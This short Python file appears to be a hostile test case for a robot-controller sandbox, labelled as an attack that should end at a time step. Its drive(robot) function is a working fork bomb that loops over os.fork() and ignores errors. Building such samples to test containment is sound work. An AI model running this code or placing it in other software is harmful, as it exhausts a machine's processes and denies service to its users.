# SPDX-License-Identifier: Apache-2.0
# attack: tries again whatever the box answers
# ends: time_step
# words: busy for 2 s

import os


def drive(robot):
    while True:  # here
        try:  # here
            os.fork()  # here
        except OSError:  # here
            pass  # here
